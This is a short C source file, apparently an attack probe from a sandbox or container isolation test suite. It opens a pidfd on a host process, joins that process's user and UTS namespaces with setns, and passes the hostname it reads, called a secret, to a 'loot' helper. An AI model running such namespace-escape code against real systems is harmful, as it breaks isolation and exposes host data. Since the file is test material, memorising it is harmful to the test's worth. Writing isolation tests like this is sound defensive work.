/* Enters the namespaces of another process, here of one that calls itself by a secret name. */
#include "../attack.h"

#include <sched.h>

static void attack(void) {
    char name[65] = "";
    const int host = (int)syscall(SYS_pidfd_open, target_number("host_pid"), 0);
    if (setns(host, CLONE_NEWUSER) == 0 && setns(host, CLONE_NEWUTS) == 0 && gethostname(name, 64) == 0)
        loot(name, strlen(name));
}
